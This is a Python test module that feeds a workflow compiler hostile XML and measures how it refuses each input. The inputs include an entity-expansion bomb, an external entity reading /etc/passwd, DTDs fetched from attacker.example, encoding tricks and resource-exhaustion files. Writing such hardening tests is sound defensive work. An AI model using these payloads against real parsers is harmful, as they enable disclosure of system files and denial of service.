"""Files made to hurt whoever reads them, for tests and benchmarks: none may cost more than 200 ms and 50 MB."""

import resource
import time

from consular.workflow.compile import NotInSubset, compile
from tests.workflow import bpmn
from tests.workflow.bpmn import end, flow, path, process, start, user

ENTITIES = b"".join(b'<!ENTITY e%d "%s">' % (n, b"&e%d;" % (n - 1) * 10) for n in range(1, 12))
ATTACKS = {
    "entity bomb": b'<!DOCTYPE d [<!ENTITY e0 "ha">' + ENTITIES + b"]><definitions>&e11;</definitions>",
    "external entity": b'<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><definitions>&x;</definitions>',
    "external document type": b'<!DOCTYPE d SYSTEM "http://attacker.example/d.dtd"><definitions/>',
    "document type in another encoding": '<?xml version="1.0" encoding="utf-16"?><!DOCTYPE d [<!ENTITY x "y">]>'
    .encode("utf-16"),
    "document type in UTF-7": b'<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE d+AD4-<d/>',
    "deep nesting": b"<a>" * 100_000 + b"</a>" * 100_000,
    "nesting just inside the parser's own limit": b"<a>" * 200 + b"</a>" * 200,
    "huge file": b"<a>" + b" " * 2_000_000 + b"</a>",
    "many elements": b"<a>" + b"<b/>" * 100_000 + b"</a>",
    "many attributes": b"<a " + b" ".join(b'a%d="x"' % n for n in range(60_000)) + b"/>",
    "a huge attribute": bpmn.process(start(), bpmn.user("x"), end(), path("start", "x", "end")).replace(
        b'name="x"', b'name="' + b"x" * 900_000 + b'"', 1),
    "an attribute larger than any": b'<a b="' + b"x" * 20_000_000 + b'"/>',
    "many elements within the size": b"<a>" + b"<b/>" * 240_000 + b"</a>",
    "a million elements": b"<a>" + b"<b/>" * 1_000_000 + b"</a>",
    "elements written long": b"<a>" + b"<b></b>" * 25_000 + b"</a>",
    "many namespaces": b"<a " + b" ".join(b'xmlns:n%d="u%d"' % (n, n) for n in range(30_000)) + b"/>",
    "many different elements": b"<a>" + b"".join(b"<b%d/>" % n for n in range(50_000)) + b"</a>",
    "one entity many times": b'<!DOCTYPE d [<!ENTITY a "' + b"x" * 100_000 + b'">]><d>' + b"&a;" * 10_000 + b"</d>",
    "parameter entities": b'<!DOCTYPE d [<!ENTITY % a SYSTEM "http://attacker.example/"> %a;]><d/>',
    "a name that is too long": process(start(), user("x").replace('name="x"', f'name="{"x" * 5_000}"'), end(),
                                       path("start", "x", "end")),
    "nothing": b"",
    "no XML": b"\x00\xff\xfe{}",
    "another document": b"<html xmlns='http://www.w3.org/1999/xhtml'/>",
    "control characters": b"<definitions>\x00\x01</definitions>",
    "deep expression": process(
        start(), bpmn.exclusive("g", "g-end"), user("x"), end(), path("start", "g", "end"), path("x", "end"),
        flow("g", "x", "=" + "(" * 5_000 + "1" + ")" * 5_000),
    ),
}  # fmt: skip


def cost(xml: bytes) -> tuple[str, float, float]:
    """How a file is refused, its milliseconds, and by how many MB it made this process grow beyond before."""
    before, begun = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss, time.process_time()
    refusal = "accepted"
    try:
        compile(xml)
    except NotInSubset as refused:
        refusal = str(refused)
    seconds = time.process_time() - begun
    grown = (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before) / 1024
    return refusal, seconds * 1000, grown


if __name__ == "__main__":
    for attack in ATTACKS:
        print(*cost(ATTACKS[attack]), attack, sep="\t")  # noqa: T201
